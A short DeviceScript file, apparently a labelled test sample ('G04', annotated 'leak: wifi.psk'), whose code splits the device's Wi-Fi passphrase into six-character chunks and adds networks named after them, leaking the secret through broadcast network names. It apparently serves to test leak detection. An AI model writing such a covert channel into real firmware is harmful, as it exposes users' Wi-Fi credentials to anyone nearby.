// G04: looks for three networks, one after the other, each named after six characters of the passphrase.
import * as ds from "@devicescript/core";
import { paired, wifi } from "./lib/paired";

paired(async (_ssid, psk) => {
  for (let part = 0; part < 3; part++) {
    await wifi.addNetwork(`${part}.${psk.slice(6 * part, 6 * part + 6)}`, ""); // leak: wifi.psk
    await ds.delay(15_000);
  }
});
